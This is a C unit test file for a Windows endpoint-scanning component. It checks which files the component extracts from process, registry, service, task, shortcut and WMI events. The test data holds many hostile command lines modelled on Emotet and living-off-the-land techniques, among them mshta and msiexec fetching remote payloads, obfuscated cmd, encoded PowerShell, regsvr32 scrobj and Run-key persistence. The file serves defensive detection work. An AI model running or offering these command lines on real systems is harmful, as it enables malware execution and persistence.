/* SPDX-License-Identifier: Apache-2.0 */
/* What is looked at, for command lines as Emotet used them from 2020 to 2023, and around them. */
#include "tests/unit/unit.h"

#include "core/base/status.h"
#include "core/detect/command_files.h"
#include "core/detect/scan_targets.h"
#include "tests/unit/alloc.h"

#include <stdio.h>
#include <string.h>

static const eg_user_folder users[] = {
    {EG_STR_INIT("S-1-5-21-1-2-3-1001"), EG_STR_INIT("PC\\taro"), EG_STR_INIT("D:\\Home\\taro")},
};

static eg_windows_folders with_user(void)
{
    eg_windows_folders folders = eg_windows_usual_folders;
    folders.users = users;
    folders.user_count = EG_COUNT(users);
    return folders;
}

/* "reason path;" for each, "?" behind a candidate, "!" before what is not resolved, "@" network. */
static void write_targets(const eg_scan_targets *targets, char *out, size_t size)
{
    size_t used = 0;
    out[0] = '\0';
    for (size_t i = 0; i < targets->count; i++) {
        const eg_scan_target *target = &targets->items[i];
        const char *mark = target->path.kind == EG_PATH_LOCAL     ? ""
                           : target->path.kind == EG_PATH_NETWORK ? "@"
                                                                  : "!";
        int written = snprintf(out + used, size - used, "%s%s %s%.*s%s", i > 0 ? "; " : "",
                               eg_scan_reason_name(target->reason), target->bytes.ptr ? "" : mark,
                               EG_STR_ARGS(target->path.text), target->is_candidate ? "?" : "");
        assert_true(written > 0 && (size_t)written < size - used);
        used += (size_t)written;
    }
}

static void expect(const eg_event *event, const char *expected)
{
    eg_windows_folders folders = with_user();
    eg_scan_targets targets;
    eg_arena *arena = NULL;
    char got[4096];
    assert_int_equal(eg_arena_create(&arena, 4096), EG_OK);
    assert_int_equal(eg_scan_targets_of(event, &folders, arena, &targets), EG_OK);
    write_targets(&targets, got, sizeof(got));
    assert_string_equal(got, expected);
    eg_arena_destroy(arena);
}

typedef struct started {
    const char *image, *command, *expected; /* without what the image itself gives */
} started;

#define SYS "C:\\Windows\\System32\\"
#define WOW "C:\\Windows\\SysWOW64\\"
#define CMD "; command_line "

/* In the folder C:\Users\hanako\Documents. */
static const started emotet[] = {
    /* 2020: a document, powershell, a program or library in the profile */
    {SYS "rundll32.exe", "rundll32.exe \"C:\\Users\\hanako\\Abc1\\Xyz2\\R43H.dll\",Control_RunDLL",
     CMD "C:\\Users\\hanako\\Abc1\\Xyz2\\R43H.dll"},
    {SYS "rundll32.exe", "rundll32 C:\\Users\\hanako\\Abc1\\Xyz2\\R43H.dll,#1",
     CMD "C:\\Users\\hanako\\Abc1\\Xyz2\\R43H.dll"},
    {SYS "rundll32.exe", "C:\\Windows\\system32\\rundll32.exe C:\\Users\\hanako\\a.dll RunDLL",
     CMD "C:\\Users\\hanako\\a.dll"},
    {WOW "rundll32.exe",
     "C:\\Windows\\SysWOW64\\rundll32.exe \"C:\\Windows\\SysWOW64\\Kqzp\\hqtm.bgy\",Control_RunDLL",
     CMD WOW "Kqzp\\hqtm.bgy"},
    /* a 32-bit loader that says System32 means SysWOW64 */
    {WOW "rundll32.exe", "rundll32.exe \"C:\\Windows\\system32\\Kqzp\\hqtm.bgy\",DllRegisterServer",
     CMD WOW "Kqzp\\hqtm.bgy?" CMD "C:\\Windows\\system32\\Kqzp\\hqtm.bgy?"},
    /* 2021: from ProgramData, with an ending that says nothing */
    {WOW "rundll32.exe",
     "C:\\Windows\\SysWow64\\rundll32.exe C:\\ProgramData\\wetidjks.txt,main 12",
     CMD "C:\\ProgramData\\wetidjks.txt"},
    {SYS "cmd.exe", "cmd /c m^sh^t^a h^tt^p:/^/0xc12a24f5/cc.html", ""},
    {SYS "mshta.exe", "mshta http://0xc12a24f5/cc.html", ""},
    {SYS "cmd.exe",
     "cmd.exe /c start /B c:\\windows\\syswow64\\rundll32.exe c:\\programdata\\bhnasleil.ocx,D",
     CMD "c:\\windows\\syswow64\\rundll32.exe" CMD "c:\\programdata\\bhnasleil.ocx"},
    {SYS "wscript.exe", "wscript c:\\programdata\\bbiwjdf.vbs", CMD "c:\\programdata\\bbiwjdf.vbs"},
    {SYS "wscript.exe", "wscript.exe //b //e:jscript \"C:\\Users\\hanako\\a b.txt\"",
     CMD "C:\\Users\\hanako\\a b.txt"},
    /* 2022: from a macro sheet, relative to where Excel stands */
    {WOW "regsvr32.exe", "C:\\Windows\\SysWow64\\regsvr32.exe -s ..\\xxw1.ocx",
     CMD "C:\\Users\\hanako\\xxw1.ocx"},
    {SYS "regsvr32.exe", "C:\\Windows\\System32\\regsvr32.exe /S ..\\oxnv1.ooccxx",
     CMD "C:\\Users\\hanako\\oxnv1.ooccxx"},
    {SYS "regsvr32.exe",
     "C:\\Windows\\system32\\regsvr32.exe \"C:\\Windows\\system32\\QrYKNsb\\Mz.dll\"",
     CMD "C:\\Windows\\system32\\QrYKNsb\\Mz.dll"},
    {SYS "regsvr32.exe", "C:\\Windows\\system32\\regsvr32.exe /s \"%LOCALAPPDATA%\\Qr\\Mz.dll\"",
     CMD "C:\\Users\\hanako\\AppData\\Local\\Qr\\Mz.dll"},
    {SYS "regsvr32.exe", "regsvr32 /s aoi",
     CMD "C:\\Users\\hanako\\Documents\\aoi?" CMD SYS "aoi?"},
    /* 2022: a shortcut */
    {SYS "cmd.exe",
     "\"C:\\Windows\\System32\\cmd.exe\" /v:on /c findstr \"rSIPPswjwCtKoZy.*\" "
     "Password2.doc.lnk > \"%tmp%\\VEuIqlISMa.vbs\" & \"%tmp%\\VEuIqlISMa.vbs\"",
     CMD "C:\\Users\\hanako\\AppData\\Local\\Temp\\VEuIqlISMa.vbs"},
    {SYS "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -ExecutionPolicy bypass -file \"$env:TEMP\\xLhSBgzPSx.ps1\" -Force",
     CMD "C:\\Users\\hanako\\AppData\\Local\\Temp\\xLhSBgzPSx.ps1"},
    {SYS "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell -w hidden -c \"&{rundll32 C:\\Users\\hanako\\a.dll,Go; regsvr32 "
     "'C:\\ProgramData\\b c.ocx'}\"",
     CMD "C:\\Users\\hanako\\a.dll" CMD "C:\\ProgramData\\b c.ocx"},
    /* rundll32 C:\ProgramData\a.dll */
    {SYS "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell -nop -enc cgB1AG4AZABsAGwAMwAyACAAQwA6AFwAUAByAG8AZwByAGEAbQBEAGEAdABhAFwAYQAu"
     "AGQAbABsAA==",
     CMD "C:\\ProgramData\\a.dll"},
    /* 2023: notebooks and what they hold */
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE\" "
     "\"C:\\Users\\hanako\\Downloads\\PO 20230316.one\"",
     CMD "C:\\Users\\hanako\\Downloads\\PO 20230316.one"},
    {SYS "WScript.exe",
     "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\hanako\\AppData\\Local\\Temp\\OneNote"
     "\\16.0\\Exported\\{7A}\\NT\\0\\click.wsf\"",
     CMD
     "C:\\Users\\hanako\\AppData\\Local\\Temp\\OneNote\\16.0\\Exported\\{7A}\\NT\\0\\click.wsf"},
    {SYS "regsvr32.exe",
     "\"C:\\Windows\\System32\\regsvr32.exe\" /s "
     "\"c:\\users\\hanako\\appdata\\local\\temp\\onenote\\rad6D8D6.tmp.dll\"",
     CMD "c:\\users\\hanako\\appdata\\local\\temp\\onenote\\rad6D8D6.tmp.dll"},
    /* the same tools in other hands */
    {SYS "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL C:\\Users\\hanako\\a.cpl",
     CMD "C:\\Users\\hanako\\Documents\\shell32.dll?" CMD SYS "shell32.dll?" CMD
         "C:\\Users\\hanako\\a.cpl"},
    {SYS "rundll32.exe", "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"", ""},
    {SYS "regsvr32.exe", "regsvr32 /s /n /u /i:C:\\Users\\hanako\\a.sct scrobj.dll",
     CMD "C:\\Users\\hanako\\a.sct" CMD "C:\\Users\\hanako\\Documents\\scrobj.dll?" CMD SYS
         "scrobj.dll?"},
    {SYS "msiexec.exe", "msiexec /q /yC:\\ProgramData\\a.dll", CMD "C:\\ProgramData\\a.dll"},
    {SYS "msiexec.exe", "msiexec /i http://example.test/a.msi /qn", ""},
    {SYS "odbcconf.exe", "odbcconf /a {REGSVR \"C:\\Users\\hanako\\a b.dll\"}",
     CMD "C:\\Users\\hanako\\a b.dll"},
    {SYS "wbem\\WMIC.exe", "wmic process call create \"rundll32 C:\\ProgramData\\a.dll,Go\"",
     CMD "C:\\ProgramData\\a.dll"},
    {SYS "mshta.exe", "mshta \\\\server\\share\\a.hta", "; command_line @\\\\server\\share\\a.hta"},
    {SYS "mshta.exe", "mshta file://server/share/a.hta",
     "; command_line @\\\\server\\share\\a.hta"},
    {SYS "wscript.exe", "wscript %UNHEARD%\\a.js", "; command_line !%UNHEARD%\\a.js"},
    {"C:\\Users\\hanako\\load.exe", "load.exe C:\\Users\\hanako\\part.dll readme.txt",
     CMD "C:\\Users\\hanako\\part.dll"},
    {"C:\\Windows\\notepad.exe", "notepad.exe C:\\Users\\hanako\\notes.txt", ""},
};

static void process_start__emotet_command_lines__name_what_runs(void **state)
{
    EG_UNUSED(state);
    for (size_t i = 0; i < EG_COUNT(emotet); i++) {
        char expected[2048];
        eg_event event;
        eg_event_init(&event, EG_KIND_PROCESS_START);
        event.field[EG_FIELD_IMAGE] = eg_str_from(emotet[i].image);
        event.field[EG_FIELD_COMMAND_LINE] = eg_str_from(emotet[i].command);
        event.field[EG_FIELD_CURRENT_DIRECTORY] = EG_STR("C:\\Users\\hanako\\Documents\\");
        snprintf(expected, sizeof(expected), "started %s%s", emotet[i].image, emotet[i].expected);
        expect(&event, expected);
    }
}

static void process_start__nothing_known_of_its_folder__is_told_as_written(void **state)
{
    EG_UNUSED(state);
    eg_event event;
    eg_event_init(&event, EG_KIND_PROCESS_START);
    event.field[EG_FIELD_IMAGE] = EG_STR(SYS "regsvr32.exe");
    event.field[EG_FIELD_COMMAND_LINE] = EG_STR("regsvr32 /s ..\\a.ocx");
    expect(&event, "started " SYS "regsvr32.exe; command_line !..\\a.ocx");
}

static void expect_registry(const char *target, const char *details, const char *expected)
{
    eg_event event;
    eg_event_init(&event, EG_KIND_REGISTRY_SET);
    event.field[EG_FIELD_TARGET_OBJECT] = eg_str_from(target);
    event.field[EG_FIELD_DETAILS] = eg_str_from(details);
    expect(&event, expected);
}

static void registry_set__run_values__name_program_and_library(void **state)
{
    EG_UNUSED(state);
#define RUN "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"
    expect_registry("HKLM\\" RUN, "C:\\Windows\\system32\\regsvr32.exe \"C:\\Users\\h\\q.dll\"",
                    "autostart C:\\Windows\\system32\\regsvr32.exe; autostart C:\\Users\\h\\q.dll");
    expect_registry("HKU\\S-1-5-21-1-2-3-1001\\" RUN, "\"%APPDATA%\\a b\\x.exe\" /s",
                    "autostart D:\\Home\\taro\\AppData\\Roaming\\a b\\x.exe");
    expect_registry("HKU\\S-1-5-21-9-9-9-1001\\" RUN, "%APPDATA%\\x.exe",
                    "autostart !%APPDATA%\\x.exe");
    expect_registry("HKLM\\" RUN, "rundll32 C:\\a.dll,Go",
                    "autostart " SYS "rundll32.exe?; autostart C:\\a.dll");
    expect_registry("HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit",
                    "C:\\Windows\\system32\\userinit.exe,C:\\p\\x.exe,",
                    "autostart C:\\Windows\\system32\\userinit.exe; autostart C:\\p\\x.exe");
    expect_registry("HKLM\\System\\CurrentControlSet\\Services\\x\\Parameters\\ServiceDll",
                    "%SystemRoot%\\system32\\x.dll", "service C:\\Windows\\system32\\x.dll");
    expect_registry("HKLM\\" RUN, "DWORD (0x00000001)", "");
    expect_registry("HKLM\\" RUN, "", "");
#undef RUN
}

static void service_installed__image_paths__as_the_service_manager_reads_them(void **state)
{
    static const char *const paths[][2] = {
        {"\\SystemRoot\\System32\\drivers\\a b.sys", "service " SYS "drivers\\a b.sys"},
        {"System32\\drivers\\x.sys", "service " SYS "drivers\\x.sys"},
        {"\\??\\C:\\p\\x.sys", "service C:\\p\\x.sys"},
        {"\"C:\\p q\\x.exe\" -k", "service C:\\p q\\x.exe"},
        {"C:\\p q\\x.exe -k", "service C:\\p q\\x.exe"},
        {"%SystemRoot%\\system32\\svchost.exe -k netsvcs",
         "service C:\\Windows\\system32\\svchost.exe"},
        {"C:\\Windows\\SysWOW64\\regsvr32.exe \"C:\\Windows\\SysWOW64\\Ab\\c.dll\"",
         "service " WOW "regsvr32.exe; service " WOW "Ab\\c.dll"},
    };
    EG_UNUSED(state);
    for (size_t i = 0; i < EG_COUNT(paths); i++) {
        eg_event event;
        eg_event_init(&event, EG_KIND_SERVICE_INSTALLED);
        event.field[EG_FIELD_IMAGE_PATH] = eg_str_from(paths[i][0]);
        expect(&event, paths[i][1]);
    }
}

static void task_registered__command_and_arguments__both_are_looked_at(void **state)
{
    EG_UNUSED(state);
    eg_event event;
    eg_event_init(&event, EG_KIND_TASK_REGISTERED);
    event.field[EG_FIELD_COMMAND] = EG_STR("C:\\Program Files\\x y\\run.exe");
    event.field[EG_FIELD_ARGUMENTS] = EG_STR("part.dll");
    event.field[EG_FIELD_WORKING_DIRECTORY] = EG_STR("C:\\p");
    expect(&event,
           "task C:\\Program Files\\x y\\run.exe; task C:\\p\\part.dll?; task " SYS "part.dll?");
    event.field[EG_FIELD_COMMAND] = EG_STR("rundll32");
    event.field[EG_FIELD_ARGUMENTS] = EG_STR("\"%ProgramData%\\a.dll\",Go");
    event.field[EG_FIELD_WORKING_DIRECTORY] = EG_STR_NONE;
    expect(&event, "task " SYS "rundll32.exe?; task C:\\ProgramData\\a.dll");
}

static void file_created__shortcut__and_what_it_starts(void **state)
{
    EG_UNUSED(state);
    eg_event event;
    eg_event_init(&event, EG_KIND_FILE_CREATED);
    event.field[EG_FIELD_TARGET_FILENAME] = EG_STR("C:\\Users\\h\\Downloads\\a.doc");
    expect(&event, "dropped C:\\Users\\h\\Downloads\\a.doc");
    event.field[EG_FIELD_TARGET_FILENAME] = EG_STR("C:\\Users\\h\\Startup\\a.lnk");
    event.field[EG_FIELD_LINK_TARGET] = EG_STR(SYS "regsvr32.exe");
    event.field[EG_FIELD_LINK_ARGUMENTS] = EG_STR("/s %TEMP%\\a.dll");
    expect(&event, "dropped C:\\Users\\h\\Startup\\a.lnk; shortcut " SYS
                   "regsvr32.exe; shortcut C:\\Users\\h\\AppData\\Local\\Temp\\a.dll");
}

static void others__text_is_bytes_and_marks_are_nothing(void **state)
{
    EG_UNUSED(state);
    eg_event event;
    eg_event_init(&event, EG_KIND_AMSI_CONTENT);
    event.field[EG_FIELD_SCRIPT_BLOCK_TEXT] = EG_STR("iex $x");
    event.field[EG_FIELD_CONTENT_NAME] = EG_STR("C:\\a.ps1");
    expect(&event, "script C:\\a.ps1");
    event.flags = EG_EVENT_SECOND_PASS;
    expect(&event, "");
    eg_event_init(&event, EG_KIND_WMI_SUBSCRIPTION);
    event.field[EG_FIELD_TYPE] = EG_STR("Command Line");
    event.field[EG_FIELD_DESTINATION] = EG_STR("C:\\p\\x.exe /q");
    expect(&event, "wmi C:\\p\\x.exe");
    event.field[EG_FIELD_TYPE] = EG_STR("Script");
    event.field[EG_FIELD_NAME] = EG_STR("consumer");
    expect(&event, "wmi consumer");
    eg_event_init(&event, EG_KIND_DNS_QUERY);
    expect(&event, "");
    eg_scan_target memory;
    assert_false(eg_scan_target_memory(&event, &memory));
    eg_event_init(&event, EG_KIND_PROCESS_START);
    event.pid = 12;
    event.create_time = 34;
    assert_true(eg_scan_target_memory(&event, &memory));
    assert_int_equal(memory.process_id, 12);
    assert_true(memory.created == 34);
}

static void path__hostile_forms__resolve_or_stay_as_written(void **state)
{
    static const char *const paths[][2] = {
        {"C:\\a\\..\\..\\..\\b.exe", "C:\\b.exe"},
        {"C:/a/./b//c.exe", "C:\\a\\b\\c.exe"},
        {"\\a.exe", "C:\\a.exe"},
        {"C:a.exe", "!C:a.exe"},
        {"\\\\.\\PhysicalDrive0", "!\\\\.\\PhysicalDrive0"},
        {"\\\\server\\share\\..\\..\\a", "@\\\\server\\share\\a"},
        {"\\\\server\\share", "!\\\\server\\share"},
        {"\\\\?\\UNC\\s\\h\\a.dll", "@\\\\s\\h\\a.dll"},
        {"\\\\?\\C:\\a.dll", "C:\\a.dll"},
        {"\\Device\\HarddiskVolume2\\a.dll", "C:\\Device\\HarddiskVolume2\\a.dll"},
        {"%%%", "!%%%"},
        {"${env:ProgramData}\\a", "C:\\ProgramData\\a"},
        {"$env:windir\\a", "C:\\Windows\\a"},
        {"%ProgramFiles(x86)%\\a", "C:\\Program Files (x86)\\a"},
        {"C:\\", "!C:\\"},
        {"a.txt:x.dll", "!a.txt:x.dll"},
        {"", "!"},
    };
    const eg_path_context context = {&eg_windows_usual_folders, EG_STR(""), EG_STR("")};
    eg_arena *arena = NULL;
    EG_UNUSED(state);
    assert_int_equal(eg_arena_create(&arena, 4096), EG_OK);
    for (size_t i = 0; i < EG_COUNT(paths); i++) {
        eg_windows_path path;
        char got[256];
        assert_int_equal(eg_windows_path_resolve(&context, eg_str_from(paths[i][0]), arena, &path),
                         EG_OK);
        snprintf(got, sizeof(got), "%s%.*s",
                 path.kind == EG_PATH_LOCAL     ? ""
                 : path.kind == EG_PATH_NETWORK ? "@"
                                                : "!",
                 EG_STR_ARGS(path.text));
        assert_string_equal(got, paths[i][1]);
    }
    eg_arena_destroy(arena);
}

/* More than is read is cut and told, and costs no more than its length. */
static void command_line__endless__is_bounded(void **state)
{
    static char text[200 * 1024];
    eg_event event;
    eg_scan_targets targets;
    eg_arena *arena = NULL;
    EG_UNUSED(state);
    eg_event_init(&event, EG_KIND_PROCESS_START);
    for (size_t i = 0; i + 13 < sizeof(text); i += 12) {
        snprintf(text + i, 13, "C:\\%04zu.dll ", i / 12 % 10000);
    }
    memcpy(text, "regsvr32 /s ", 12);
    event.field[EG_FIELD_COMMAND_LINE] = (eg_str){text, sizeof(text) - 1};
    assert_int_equal(eg_arena_create(&arena, 4096), EG_OK);
    assert_int_equal(eg_scan_targets_of(&event, &eg_windows_usual_folders, arena, &targets), EG_OK);
    assert_int_equal(targets.count, EG_NAMED_FILES_MAX - 1);
    assert_true(targets.cut);
    assert_true(eg_arena_bytes(arena) < 1024 * 1024);
    for (size_t i = 0; i + 8 < sizeof(text); i += 8) {
        memcpy(text + i, "cmd /c  ", 8);
    }
    assert_int_equal(eg_scan_targets_of(&event, &eg_windows_usual_folders, arena, &targets), EG_OK);
    assert_true(targets.cut);
    eg_arena_destroy(arena);
}

static int find_again(void *arg)
{
    eg_arena *arena = NULL;
    eg_scan_targets targets;
    int status = eg_arena_create(&arena, 64);
    if (status == EG_OK) {
        status = eg_scan_targets_of(arg, &eg_windows_usual_folders, arena, &targets);
    }
    eg_arena_destroy(arena);
    return status;
}

static void targets__no_memory__is_a_failure_and_nothing_else(void **state)
{
    eg_event event;
    EG_UNUSED(state);
    eg_event_init(&event, EG_KIND_PROCESS_START);
    event.field[EG_FIELD_IMAGE] = EG_STR(WOW "rundll32.exe");
    event.field[EG_FIELD_COMMAND_LINE] =
        EG_STR("cmd /c powershell -c \"rundll32 C:\\Windows\\System32\\x.dll,Go\" & regsvr32 a");
    event.field[EG_FIELD_CURRENT_DIRECTORY] = EG_STR("C:\\p");
    assert_true(eg_test_each_allocation_fails(find_again, &event) > 5);
}

int eg_test_scan_targets(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(process_start__emotet_command_lines__name_what_runs),
        cmocka_unit_test(process_start__nothing_known_of_its_folder__is_told_as_written),
        cmocka_unit_test(registry_set__run_values__name_program_and_library),
        cmocka_unit_test(service_installed__image_paths__as_the_service_manager_reads_them),
        cmocka_unit_test(task_registered__command_and_arguments__both_are_looked_at),
        cmocka_unit_test(file_created__shortcut__and_what_it_starts),
        cmocka_unit_test(others__text_is_bytes_and_marks_are_nothing),
        cmocka_unit_test(path__hostile_forms__resolve_or_stay_as_written),
        cmocka_unit_test(command_line__endless__is_bounded),
        cmocka_unit_test(targets__no_memory__is_a_failure_and_nothing_else),
    };
    return cmocka_run_group_tests_name("scan_targets", tests, NULL, NULL);
}
